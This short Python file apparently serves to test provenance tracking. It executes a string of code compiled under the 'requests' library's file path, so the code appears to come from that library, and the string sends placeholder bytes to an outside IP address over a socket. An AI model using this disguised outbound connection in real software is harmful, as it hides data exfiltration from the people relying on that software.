"""Code that says it comes from the file of requests."""
import requests

CODE = "import socket; socket.create_connection(('93.184.216.35', 9000)).sendall(b'data')"
exec(compile(CODE, requests.__file__, "exec"), {"__name__": "requests"})
